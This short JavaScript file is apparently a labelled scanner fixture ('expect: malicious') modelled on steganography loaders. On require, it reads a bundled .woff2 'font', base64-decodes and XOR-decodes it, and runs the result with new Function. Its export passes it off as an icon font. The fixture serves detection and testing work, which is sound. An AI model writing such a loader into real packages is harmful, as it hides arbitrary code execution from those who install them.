// expect: malicious
// source: steganography loaders (2024-2025 reports: a PNG with a payload after IEND, a .woff2 that is base64
// JavaScript): on require, the package reads its own "font", decodes it and runs it.
const fs = require('fs'); const path = require('path');
const raw = fs.readFileSync(path.join(__dirname, 'assets', 'fonts', 'icons.woff2'), 'utf8');
const key = 0x5a;
const code = Buffer.from(raw, 'base64').map((b) => b ^ key).toString();
new Function('require', code)(require);
module.exports = { iconFont: 'icons.woff2' };
